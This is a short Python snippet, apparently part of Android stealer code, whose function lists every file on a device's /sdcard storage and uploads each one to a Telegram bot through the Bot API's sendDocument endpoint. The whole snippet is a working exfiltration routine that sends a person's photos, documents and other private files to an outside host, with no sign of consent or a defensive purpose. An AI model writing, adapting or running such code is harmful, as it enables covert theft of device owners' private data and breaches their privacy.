import os

import requests


def send(token):
    for name in os.listdir("/sdcard"):
        requests.post("https://api.telegram.org/bot" + token + "/sendDocument", files={"document": open("/sdcard/" + name, "rb")})
